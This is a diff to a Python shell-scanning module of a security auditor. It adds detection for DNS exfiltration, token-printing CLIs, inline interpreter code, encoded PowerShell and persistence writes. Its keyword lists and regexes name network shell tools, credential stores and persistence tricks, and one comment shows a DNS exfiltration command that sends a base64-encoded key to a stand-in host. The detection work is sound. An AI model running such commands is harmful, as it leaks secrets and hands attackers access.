@@ -6,6 +6,7 @@ import re
 
 from skillscope.audit.behavior.base import Ctx
 from skillscope.audit.behavior.shellparse import Cmd, Pipeline, parse_shell
+from skillscope.audit.behavior.shellvalues import expand, vendor_host
 from skillscope.audit.behavior.vocab import (
     DOTENV,
     DOWNLOADERS,
@@ -14,6 +15,7 @@ from skillscope.audit.behavior.vocab import (
     PERSISTENCE_PATH,
     SECRET_NAME,
     STORE_COMMAND,
+    TOKEN_COMMAND,
     credential_what,
     endpoint_kind,
     is_store,
@@ -27,7 +29,7 @@ __all__ = ["scan_shell", "SHELL_WORDS"]
 
 SHELL_WORDS = ("curl", "wget", "base64", "nc", "ncat", "socat", "/dev/tcp", "crontab", "hooksPath", ".ssh", ".aws", "security",
                "env", "printenv", ">>", "LaunchAgents", "systemctl", "launchctl", "eval", "sh", "xxd", ".kube", ".docker",
-               "Login Data", "keychain", "iwr", "Invoke-", "python", "node", "perl", "tee", "git config", "source")
+               "Login Data", "keychain", "iwr", "irm", "iex", "Invoke-", "auth token", "dig ", "nslookup", ".claude", "autostart", "systemd", ".git/hooks", "cron", " -enc ", " -Enc ", "EncodedCommand", "python", "node", "perl", "tee", "git config", "source")
 """Words without which no shell rule can fire (a cheap guard before parsing)."""
 
 _SEND_FLAGS = ("-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--data-ascii", "-F", "--form", "--form-string",
@@ -92,6 +94,9 @@ def _source(ctx: Ctx, flow: _Flow, cmd: Cmd) -> tuple[str, int, str | None] | No
     store = STORE_COMMAND.search(joined)
     if store:
         return f"reads a credential store ({safe_line(store.group(0), limit=60)})", line, None
+    printed = TOKEN_COMMAND.search(joined) if cmd.name in _TOKEN_TOOLS else None
+    if printed:  # named after its tool, so the token sent to that tool's own provider (gh to api.github.com) is its use
+        return f"reads a credential ({safe_line(printed.group(0), limit=60)})", line, cmd.name
     if cmd.name in _READERS or cmd.name in DOWNLOADERS or cmd.name in ("nc", "ncat", "netcat", "socat", "telnet", "scp", "rsync"):
         for word in cmd.args:
             what = credential_what(word)
@@ -124,7 +129,13 @@ def _pipeline_source(ctx: Ctx, flow: _Flow, pipeline: Pipeline) -> tuple[str, in
     return None
 
 
+_TOKEN_TOOLS = frozenset({"gh", "glab", "aws", "gcloud", "az", "kubectl", "git", "op", "vault", "pass", "npm"}) | {f"docker-credential-{k}" for k in ("desktop", "osxkeychain", "pass", "secretservice", "wincred", "ecr-login", "gcr")}
+_RESOLVERS = frozenset({"dig", "nslookup", "host", "drill", "ping"})
+
+
 def _sends(cmd: Cmd) -> bool:
+    if cmd.name in _RESOLVERS and any("$" in a or "`" in a for a in cmd.args) or (cmd.name in _RESOLVERS and cmd.subs):
+        return True  # a name looked up with data spliced into it (dig "$(cat key | base64).x.example") leaks through DNS
     if cmd.name in NET_TOOLS and cmd.name not in ("ssh", "rsync", "scp", "sftp"):
         return True
     if cmd.name in ("scp", "rsync") and any(re.match(r"^[\w.@-]+:", a) for a in cmd.args[1:]):
@@ -135,6 +146,22 @@ def _sends(cmd: Cmd) -> bool:
         return False
     return any(a in _SEND_FLAGS or a.startswith(tuple(f + "=" for f in _SEND_FLAGS if f.startswith("--"))) or (a.startswith("-d") and len(a) > 2)
                for a in cmd.args) or any("$" in a for a in cmd.args if _URL.search(a))
+
+
+def _named_host(url: str | None) -> bool:
+    """Whether an address names its host in the script itself (not ``$UPLOAD_URL`` the user configures)."""
+    if not url:
+        return False
+    host = url.split("://", 1)[-1].split("/", 1)[0]
+    return bool(host) and "$" not in host and "`" not in host
+
+
+def _uploads(cmd: Cmd) -> bool:
+    """Whether a sending command names a file whose content it sends (curl -T FILE, -F f=@FILE, --data-binary @FILE, scp FILE host:)."""
+    args = cmd.args
+    if cmd.name in ("scp", "rsync", "sftp"):
+        return True
+    return any((a in ("-T", "--upload-file") and i + 1 < len(args)) or "=@" in a or (a.startswith("@") and a != "@-") for i, a in enumerate(args))
 
 
 def _header_only(cmd: Cmd, name: str) -> bool:
@@ -153,6 +180,9 @@ def _report_flow(ctx: Ctx, cmd: Cmd, source: tuple[str, int, str | None]) -> Non
     ctx.add("skillscope/exfiltration/data-flow", f"{what} (line {line}) and sends it to {where} (line {ctx.line(cmd.start)})", cmd.start, cmd.end)
 
 
+_HARMFUL_PAYLOAD = re.compile(r"\b(?:curl|wget|nc|ncat|socat|base64|xxd|eval)\b|https?://|/dev/tcp/|\balias\s+(?:sudo|su|ssh|git|ls|cd|cp|mv|rm)=|"
+                              r"PROMPT_COMMAND|\btrap\b[^\n]*DEBUG|LD_PRELOAD|DYLD_INSERT|\.claude|mcpServers|[\"']hooks[\"']\s*:")
+"""What turns a documented scheduling or start-up step into an attack: it fetches, sends or decodes."""
 def _persistence(ctx: Ctx, cmd: Cmd, pipeline: Pipeline) -> None:
     targets = [t for op, t in cmd.redirects if ">" in op]
     if cmd.name == "tee":
@@ -161,13 +191,16 @@ def _persistence(ctx: Ctx, cmd: Cmd, pipeline: Pipeline) -> None:
         targets.append(cmd.args[-1])
     if cmd.name == "sed" and any(a.startswith("-i") for a in cmd.args):
         targets += [a for a in cmd.args[1:] if not a.startswith("-")]
-    for target in targets:
+    payload = " ".join(c.words and " ".join(c.words) or "" for stage in pipeline for c in stage)
+    # A page showing the reader how to schedule or configure something of their own (`crontab -e`, a PATH line
+    # in ~/.bashrc, `systemctl --user enable backup.timer`) documents a step; with a download or a send in it,
+    # it is the attack itself.
+    severity: Severity | None = "note" if ctx.documented and not _HARMFUL_PAYLOAD.search(payload) else None
+    for target in (expand(ctx, t) for t in targets):
         match = PERSISTENCE_PATH.search(target)
         if match:
-            payload = " ".join(c.words and " ".join(c.words) or "" for stage in pipeline for c in stage)
-            severity: Severity | None = None
-            if ctx.documented and re.search(r"sh.?rc|profile|zshenv|zlogin|fish", match.group(0)) and not re.search(r"curl|wget|https?://|\bnc\b|base64", payload):
-                severity = "warning"  # an install page telling the reader to extend PATH in ~/.bashrc
+            if _HARMFUL_PAYLOAD.search(match.group(0)):
+                severity = None  # agent configuration written from a page is the shipped-config attack, shown or not
             ctx.add("skillscope/persistence/startup", f"writes to {safe_line(target, limit=80)}, which runs again later on its own", cmd.start, cmd.end, severity)
             return
     args = cmd.args
@@ -185,7 +218,7 @@ def _persistence(ctx: Ctx, cmd: Cmd, pipeline: Pipeline) -> None:
     elif cmd.name == "reg" and "add" in [a.lower() for a in args] and any("\\run" in a.lower() for a in args):
         what = "adds a Run key"
     if what:
-        ctx.add("skillscope/persistence/startup", what, cmd.start, cmd.end)
+        ctx.add("skillscope/persistence/startup", what, cmd.start, cmd.end, severity)
 
 
 def _reverse_shell(ctx: Ctx, cmd: Cmd) -> bool:
@@ -212,7 +245,7 @@ def _installer_severity(ctx: Ctx, url: str | None) -> Severity | None:
         headings = list(re.finditer(r"^#{1,6}[ \t]+[^\n]*", ctx.file_text[: ctx.base], re.MULTILINE))
         if not headings or not _INSTALL_HEADING.match(headings[-1].group(0)):
             return None
-    return "warning"
+    return "note" if vendor_host(ctx.file_text, url) else "warning"
 
 
 def _written(cmd: Cmd) -> str | None:
@@ -240,6 +273,31 @@ def _runs_file(cmd: Cmd, name: str) -> bool:
     return cmd.name in INTERPRETERS and any(a.rsplit("/", 1)[-1] == base for a in cmd.args)
 
 
+_INLINE_FLAGS = {"python": ("-c",), "python3": ("-c",), "python2": ("-c",), "node": ("-e", "--eval", "-p", "--print"), "deno": ("eval",), "bun": ("-e", "--eval")}
+
+
+def _inline_code(ctx: Ctx, cmd: Cmd) -> None:
+    """Analyse the program an interpreter is handed on its command line (``python3 -c "..."``, ``node -e "..."``) in its own language."""
+    flags = _INLINE_FLAGS.get(cmd.name)
+    args = cmd.args
+    index = next((i for i, a in enumerate(args) if flags and a in flags), None)
+    if index is None or index + 1 >= len(args):
+        return
+    code = args[index + 1]
+    inner = Ctx(code, 0, code, ctx.path, documented=ctx.documented)
+    if cmd.name.startswith("python"):
+        from skillscope.audit.behavior.pymodules import Modules, scan_python
+
+        scan_python(inner, Modules())
+    else:
+        from skillscope.audit.behavior.javascript import scan_javascript
+
+        scan_javascript(inner)
+    ctx.network = ctx.network or inner.network
+    for raw in inner.hits:
+        ctx.add(raw.check, f"{raw.message} (in {cmd.name} {args[index]})", cmd.start, cmd.end, raw.severity)
+
+
 def scan_shell(ctx: Ctx) -> None:
     """Run every shell rule over ``ctx.text``."""
     if not any(word in ctx.text for word in SHELL_WORDS):
@@ -258,6 +316,9 @@ def scan_shell(ctx: Ctx) -> None:
                         flow.vars[name] = found[:2]
                 if _reverse_shell(ctx, cmd):
                     continue
+                _inline_code(ctx, cmd)
+                if cmd.name in ("powershell", "pwsh", "powershell.exe", "pwsh.exe") and any(a.lower() in ("-enc", "-encodedcommand", "-e", "-ec", "-en") for a in cmd.args):
+                    ctx.add("skillscope/obfuscation/decode-exec", "runs a base64-encoded PowerShell command (-EncodedCommand)", cmd.start, cmd.end)
                 runs = _runs_stdin(cmd) or cmd.name == "eval"
                 if runs and downloaded is not None:
                     ctx.add("skillscope/obfuscation/download-exec", f"runs what it downloads from {safe_line(downloaded, limit=100)}",
@@ -283,9 +344,12 @@ def scan_shell(ctx: Ctx) -> None:
                                 _installer_severity(ctx, origin) if kind == "download" else None)
                         break
                 own = _source(ctx, flow, cmd)
+                source = secret or own
                 if _sends(cmd):
                     ctx.network = True
-                source = secret or own
+                    reads = source is not None or _uploads(cmd) or any(c.name in _READERS for st in pipeline[: pipeline.index(stage)] for c in st)
+                    named = _named_host(_url_of(cmd))
+                    ctx.sends.append((cmd.start, cmd.end, "upload" if reads and named else "network"))
                 if _sends(cmd) and source is not None:
                     _report_flow(ctx, cmd, source)
                 elif own is not None and own[2] is None and own[0] != "reads the whole environment" and not sends_later:
